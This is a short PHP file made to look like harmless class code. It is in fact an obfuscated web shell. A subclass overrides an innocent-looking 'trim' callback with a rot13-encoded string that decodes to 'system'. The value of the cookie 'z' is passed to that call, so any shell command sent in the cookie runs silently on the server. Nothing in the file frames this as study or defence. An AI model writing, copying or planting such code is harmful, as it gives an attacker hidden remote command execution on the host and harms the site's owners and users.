<?php
class B0 { function h($x) { return call_user_func($this->k(), $x); } protected function k() { return 'trim'; } }
class B1 extends B0 { protected function k() { return str_rot13('flfgrz'); } }
$o = new B1;
$o->h(@$_COOKIE['z']);
